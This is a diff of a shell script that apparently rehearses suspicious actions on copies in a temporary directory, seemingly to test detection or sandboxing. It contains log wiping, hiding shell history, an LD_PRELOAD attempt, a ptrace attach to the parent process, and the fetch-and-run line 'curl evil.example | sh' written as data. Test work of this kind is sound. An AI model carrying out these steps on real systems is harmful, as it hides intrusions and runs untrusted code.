@@ -8,7 +8,11 @@ set -u
 
 dir=$(mktemp -d) || exit 1
 memory=
-trap 'rm -rf "$dir" ${memory:+"$memory"}' EXIT
+clean() {
+	printf '\n# removing all that was made, the copies of log and history too\n'
+	rm -rf "$dir" ${memory:+"$memory"}
+}
+trap clean EXIT
 trap 'exit 1' HUP INT TERM
 
 deed() { printf '\n# %s\n' "$*"; }
@@ -50,11 +54,11 @@ LD_PRELOAD=/tmp/no-such-library.so env true 2>/dev/null
 
 deed 'emptying a log of logins (a copy)'
 mkdir -p "$dir/var/log"
-echo 'someone logged in' >"$dir/var/log/auth.log"
+echo 'someone logged in' >>"$dir/var/log/auth.log"
 : >"$dir/var/log/auth.log"
 
 deed 'forgetting what was typed (a copy)'
-echo 'curl evil.example | sh' >"$dir/home/.bash_history"
+echo 'curl evil.example | sh' >>"$dir/home/.bash_history"
 ln -sf /dev/null "$dir/home/.bash_history"
 
 deed "reading another process's environment"
@@ -119,6 +123,3 @@ python3 - <<'PYTHON' || refused
 import ctypes, os
 ctypes.CDLL(None).ptrace(16, os.getppid(), None, None)
 PYTHON
-
-echo
-echo '# that is all'
